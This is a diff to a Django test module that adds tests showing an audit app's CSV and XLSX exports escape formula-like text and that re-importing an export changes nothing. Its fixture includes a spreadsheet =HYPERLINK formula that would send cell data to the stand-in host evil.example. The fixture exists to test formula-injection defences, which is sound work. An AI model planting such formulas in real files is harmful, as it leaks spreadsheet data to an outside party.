@@ -10,6 +10,7 @@ from openpyxl import load_workbook
 
 from audits import case_import
 from audits.models import AuditedCase, AuditedCrime, Inspection, RecordingError
+from audits.spreadsheets import spreadsheet_safe
 
 pytestmark = pytest.mark.django_db
 
@@ -135,15 +136,19 @@ def test_only_inspectors_import_and_confirming_needs_your_own_upload(world, clie
 def test_an_export_re_imported_changes_nothing(world, client_for, fmt):
     client = client_for(world.people.inspector)
     confirm(client, world.inspection, dry_run(client, world.inspection, GOOD))
-    exported = client.get(reverse("audits:case_export", args=[world.inspection.pk, fmt]))
+    export_and_re_import_changing_nothing(client, world.inspection, fmt, unchanged=3)
+
+
+def export_and_re_import_changing_nothing(client, inspection, fmt, unchanged):
+    exported = client.get(reverse("audits:case_export", args=[inspection.pk, fmt]))
     content = b"".join(exported.streaming_content) if exported.streaming else exported.content
     before = (counts(), AuditedCase.history.count(), AuditedCrime.history.count(), RecordingError.history.count())
-    preview = client.post(reverse("audits:case_import", args=[world.inspection.pk]),
+    preview = client.post(reverse("audits:case_import", args=[inspection.pk]),
                           {"file": SimpleUploadedFile(f"export.{fmt}", content), "mode": "update"})
     plan = preview.context["plan"]
     assert plan.ok, plan.problems
-    assert preview.context["counts"] == {"add": 0, "update": 0, "unchanged": 3}
-    confirm(client, world.inspection, preview)
+    assert preview.context["counts"] == {"add": 0, "update": 0, "unchanged": unchanged}
+    confirm(client, inspection, preview)
     assert (counts(), AuditedCase.history.count(), AuditedCrime.history.count(),
             RecordingError.history.count()) == before
 
@@ -164,3 +169,51 @@ def test_re_importing_a_changed_export_updates_instead_of_duplicating(world, cli
     confirm(client, world.inspection, preview)
     assert AuditedCase.objects.filter(reference="IMP-2").count() == 1
     assert AuditedCrime.objects.get(case__reference="IMP-2").error_kinds == ["additional_crime_missed"]
+
+
+def csv_upload(rows, name="cases.csv"):
+    buffer = io.StringIO()
+    csv.writer(buffer).writerows([case_import.COLUMNS, *rows])
+    return SimpleUploadedFile(name, buffer.getvalue().encode())
+
+
+FORMULA_LIKE = [
+    # reference, notes: each would be a formula in a spreadsheet if written as it is
+    ['=HYPERLINK("http://evil.example/?x="&A2,"Open")', "incident_log", "01/03/2024 09:00", "no", "no", "no",
+     "+44 ref", "Violence with injury", "CR9", "Violence with injury", "01/03/2024 10:00", "", ""],
+    ["=1+1", "incident_log", "01/03/2024 09:00", "no", "no", "no", "-see CR8", "Rape", "", "", "", "",
+     "not_recorded"],
+    ["'=2+2", "incident_log", "01/03/2024 09:00", "no", "no", "no", "@note", "Rape", "", "", "", "",
+     "not_recorded"],
+]
+
+
+def import_formula_like_cases(client, inspection, rows):
+    preview = client.post(reverse("audits:case_import", args=[inspection.pk]),
+                          {"file": csv_upload(rows), "mode": "add"})
+    assert preview.context["plan"].ok, preview.context["plan"].problems
+    confirm(client, inspection, preview)
+
+
+def test_the_xlsx_export_writes_formula_like_text_as_text(world, client_for):
+    client = client_for(world.people.inspector)
+    import_formula_like_cases(client, world.inspection, FORMULA_LIKE[:2])
+    exported = client.get(reverse("audits:case_export", args=[world.inspection.pk, "xlsx"]))
+    sheet = load_workbook(io.BytesIO(exported.content)).worksheets[0]
+    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row if cell.value}
+    hyperlink = cells["'" + FORMULA_LIKE[0][0]]
+    assert hyperlink.data_type == "s" and isinstance(hyperlink.value, str)
+    assert not any(cell.data_type == "f" for cell in cells.values())
+    assert not any(str(value).startswith(("=", "+", "-", "@")) for value in cells)
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_an_export_of_formula_like_text_re_imported_changes_nothing(world, client_for, fmt):
+    client = client_for(world.people.inspector)
+    # Escaped as our exports escape them, so that "'=2+2" is stored with its apostrophe.
+    escaped = [[spreadsheet_safe(cell) for cell in row] for row in FORMULA_LIKE]
+    import_formula_like_cases(client, world.inspection, escaped)
+    stored = sorted(AuditedCase.objects.values_list("reference", "notes"))
+    assert {(row[0], row[6]) for row in FORMULA_LIKE} <= set(stored)
+    export_and_re_import_changing_nothing(client, world.inspection, fmt, unchanged=world.inspection.cases.count())
+    assert sorted(AuditedCase.objects.values_list("reference", "notes")) == stored
